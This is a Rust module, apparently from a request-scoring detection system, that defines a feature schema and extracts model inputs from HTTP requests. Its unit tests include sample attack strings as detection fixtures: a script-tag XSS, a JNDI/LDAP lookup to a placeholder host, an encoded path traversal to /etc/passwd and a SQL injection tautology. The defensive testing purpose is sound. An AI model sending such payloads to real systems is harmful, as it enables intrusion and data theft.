//! Stage 2 — features: the schema, defined once, and the extraction of a model input vector.
//!
//! Input: a [`RawInput`]. Output: `[f32; N_FEATURES]` of transformed
//! values (and the raw values, for explanations). [`FEATURES`] is the single definition of the
//! schema: the model's input width, its schema hash, `docs/FEATURES.md`, the training loader and
//! the explanation labels all derive from it.

mod client;
mod docs;
mod email;
mod lists;
pub mod payload;
mod rules;
mod schema;
mod ua;

pub use docs::features_markdown;
pub use schema::{index_of, Feature, Group, Role, Transform, EVIDENCE_BUDGET, FEATURES, N_FEATURES, SIGNAL_BUDGET};

use crate::decision::{Header, RawInput};
use crate::memory::Snapshot;
use std::sync::OnceLock;

/// What the analyzers found in one request; each feature reads one field of it.
#[derive(Debug, Default, Clone)]
pub struct Signals {
    pub rules: rules::RuleSummary,
    pub ua: ua::UaInfo,
    pub email: email::EmailInfo,
    pub client: client::Presentation,
    pub payload: payload::PayloadFindings,
    /// What behavioral memory knew about the request's keys before it.
    pub memory: Snapshot,
}

/// Reusable buffers so extraction does not allocate per call.
#[derive(Debug, Default)]
pub struct Scratch {
    payload: payload::Scratch,
    ua: ua::UaCache,
}

/// Analyzes `input`, with what memory knew about it, into [`Signals`].
pub fn analyze(input: &RawInput<'_>, memory: &Snapshot, scratch: &mut Scratch) -> Signals {
    let mut ua = ua::analyze_cached(input.headers.get(Header::UserAgent), &mut scratch.ua);
    // No browser sends two user agents, and the rules may have read the other one.
    if input.headers.repeated(Header::UserAgent) {
        ua.browser_like = false;
        ua.chromium = false;
    }
    Signals {
        rules: rules::summarize(input),
        client: client::analyze(&input.headers, &ua),
        ua,
        email: email::analyze(input.texts.email),
        payload: payload::scan_texts(&input.texts, &input.headers, &mut scratch.payload),
        memory: *memory,
    }
}

/// Raw values (before transform) and model inputs (after) of every feature.
#[derive(Clone, Debug)]
pub struct FeatureVector {
    pub raw: [f64; N_FEATURES],
    pub values: [f32; N_FEATURES],
}

impl Default for FeatureVector {
    fn default() -> Self {
        Self { raw: [0.0; N_FEATURES], values: [0.0; N_FEATURES] }
    }
}

/// Fills `out` with the features of `input` and what memory knew about it.
pub fn extract_into(input: &RawInput<'_>, memory: &Snapshot, scratch: &mut Scratch, out: &mut FeatureVector) {
    let signals = analyze(input, memory, scratch);
    schema::extract_all(input, &signals, out);
}

/// Convenience wrapper of [`extract_into`] without memory that allocates; for tests and tools.
pub fn extract(input: &RawInput<'_>) -> FeatureVector {
    let mut out = FeatureVector::default();
    extract_into(input, &Snapshot::default(), &mut Scratch::default(), &mut out);
    out
}

/// The word lists and tokens the analyzers match, so another implementation (the pure-JS
/// comparison in benches/) uses exactly these instead of copies.
pub fn tables_json() -> serde_json::Value {
    serde_json::json!({
        "httpLibraries": ua::HTTP_LIBRARIES,
        "exactLibraries": ua::EXACT_LIBRARIES,
        "automation": ua::AUTOMATION,
        "botWords": ua::BOT_WORDS,
        "browsers": ua::BROWSERS,
        "engines": ua::ENGINES,
        "chromium": ua::CHROMIUM,
        "integrations": ua::INTEGRATIONS,
    })
}

/// A hash of the schema (names, order, transforms, missing defaults, heads and roles): a model
/// trained for another schema has another hash and is refused at load.
pub fn schema_hash() -> u64 {
    static HASH: OnceLock<u64> = OnceLock::new();
    *HASH.get_or_init(|| {
        let mut h = xxhash_rust::xxh3::Xxh3::new();
        for f in FEATURES {
            h.update(f.name.as_bytes());
            h.update(&[0, f.transform as u8, f.heads]);
            h.update(&f.missing.to_le_bytes());
            let active = match f.role {
                Role::Evidence { active_above } => active_above,
                Role::Raise | Role::Signal => f64::NAN,
            };
            h.update(&[f.role.tag()]);
            h.update(&active.to_le_bytes());
        }
        h.digest()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn names_are_unique_and_dotted_by_group() {
        let mut names: Vec<_> = FEATURES.iter().map(|f| f.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), N_FEATURES);
        for f in FEATURES {
            assert!(f.name.starts_with(f.group.prefix()), "{} is not in group {:?}", f.name, f.group);
        }
    }

    #[test]
    fn empty_input_gives_finite_features() {
        let o = RawInput::from_json(&json!({})).unwrap();
        let v = extract(&o.view());
        assert!(v.values.iter().all(|x| x.is_finite()));
    }

    #[test]
    fn curl_and_a_browser_differ_where_expected() {
        let get = |ua: &str| {
            let o = RawInput::from_json(&json!({"request": {"headers": {"host": "shop.example", "user-agent": ua, "accept": "*/*"}}})).unwrap();
            extract(&o.view())
        };
        let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
        let curl = get("curl/8.4.0");
        let chrome = get("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36");
        assert_eq!(curl.values[idx("ua.http_library")], 1.0);
        assert_eq!(chrome.values[idx("ua.http_library")], 0.0);
        assert_eq!(chrome.values[idx("ua.not_browser")], 0.0);
        assert_eq!(curl.values[idx("ua.not_browser")], 1.0);
        assert_eq!(chrome.values[idx("headers.missing_accept_language")], 1.0, "a browser without accept-language");
        assert_eq!(curl.values[idx("headers.missing_accept_language")], 0.0);
    }

    #[test]
    fn only_policy_facts_feed_no_head_and_client_chosen_facts_never_lower_a_threat() {
        let policy_only: Vec<_> = FEATURES.iter().filter(|f| f.heads == 0).map(|f| f.name).collect();
        assert_eq!(policy_only, ["ua.integration", "payload.values", "payload.probe"], "what only the policy reads feeds no head");
        for f in FEATURES.iter().filter(|f| matches!(f.group, Group::Ip | Group::UserAgent | Group::Headers | Group::Payload | Group::Email)) {
            assert!(f.role.monotone() || f.heads == 0, "{} is chosen by the client and could lower a threat", f.name);
        }
    }

    #[test]
    fn every_payload_family_has_its_evidence_feature() {
        for &family in payload::Family::ALL {
            let j = index_of(&format!("payload.{}", family.name()));
            assert!(matches!(FEATURES[j].role, Role::Evidence { .. }), "{}", FEATURES[j].name);
        }
    }

    #[test]
    fn payloads_in_each_location_reach_their_feature() {
        let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
        let o = RawInput::from_json(&json!({"request": {
            "path": "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "headers": {"user-agent": "${jndi:ldap://x.example/a}", "cookie": "f=..%2F..%2F..%2Fetc%2Fpasswd", "accept": "*/*"},
            "body": {"comment": "1' or '1'='1"}
        }})).unwrap();
        let v = extract(&o.view());
        for name in ["payload.xss", "payload.jndi", "payload.traversal", "payload.sqli"] {
            assert_eq!(v.raw[idx(name)], 1.0, "{name}");
        }
        let benign = RawInput::from_json(&json!({"request": {
            "path": "/search?q=O%27Brien+%26+sons",
            "headers": {"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "cookie": "sid=abc",
                "referer": "http://127.0.0.1:3000/signup?step=2", "origin": "http://localhost:3000"},
            "body": {"note": "Leave it at the door; thanks!"}
        }})).unwrap();
        let v = extract(&benign.view());
        assert!(FEATURES.iter().enumerate().all(|(j, f)| !(f.group == Group::Payload && f.role.monotone()) || v.raw[j] == 0.0));
        assert!(v.raw[idx("payload.values")] >= 4.0);
    }

    #[test]
    fn implausible_context_is_clamped_and_counted() {
        let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
        let o = RawInput::from_json(&json!({"context": {"sessionRequests": 1e9, "pagesSeen": 3}})).unwrap();
        let v = extract(&o.view());
        assert_eq!(v.raw[idx("context.implausible")], 1.0);
        assert_eq!(v.raw[idx("context.session_requests")], 100_000.0, "clamped to the plausible maximum");
        assert_eq!(v.raw[idx("context.pages_seen")], 3.0);
    }
}
